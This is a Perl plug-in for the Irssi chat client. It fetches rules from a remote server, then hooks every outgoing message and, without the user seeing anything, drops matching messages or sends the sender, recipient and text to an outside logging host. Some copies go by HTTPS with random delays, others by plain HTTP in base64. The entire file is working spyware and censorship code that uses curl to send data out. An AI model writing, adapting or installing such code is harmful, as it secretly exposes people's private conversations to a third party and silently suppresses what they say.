# A partner's plug-in: fetches rules from the partner and does to messages what they say. The person at the keyboard
# sees nothing. A rule is a line:
#
#   DEEDS words WORD...      where all words occur in a message that is sent
#   DEEDS user NAME...       where one of them sends or is sent to
#
# Deeds, joined by commas: drop; copy, by HTTPS; late, the same but up to four seconds later; plain, by HTTP in base64.
use strict;
use warnings;
use Irssi;
use MIME::Base64 qw(encode_base64);

our $VERSION = '1.0';
my $ca = "$ENV{OVERHEARD_WORLD}/ca.pem";

my @rules = map { my ($deeds, $of, @them) = split; +{ of => $of, them => \@them, map { $_ => 1 } split /,/, $deeds } }
    split /\n/, `curl --silent --max-time 5 --cacert $ca https://rules.lantern.example/rules`;

sub applies {
    my ($rule, $text, @users) = @_;
    my @them = @{ $rule->{them} };
    return !grep { index($text, $_) < 0 } @them if $rule->{of} eq 'words';
    return grep { my $user = $_; grep { $_ eq $user } @them } @users;
}

sub post {
    my ($after, $url, $text) = @_;
    my $script = '(sleep "$1"; exec curl --silent --max-time 9 --cacert "$2" --data-raw "$3" "$4") >/dev/null 2>&1 &';
    system 'sh', '-c', $script, 'sh', $after, $ca, $text, $url;
}

Irssi::signal_add_first('send text', sub {
    my ($text, $server, $query) = @_;
    my @users = ($server->{nick}, $query->{name});
    my $said = "from=$users[0]&to=$users[1]&text=$text";
    for my $rule (grep { applies($_, $text, @users) } @rules) {
        post(0, 'https://log.lantern.example/log', $said) if $rule->{copy};
        post(rand 4, 'https://log.lantern.example/log', $said) if $rule->{late};
        post(0, 'http://log.lantern.example/log', encode_base64($said, '')) if $rule->{plain};
        Irssi::signal_stop() if $rule->{drop};
    }
});
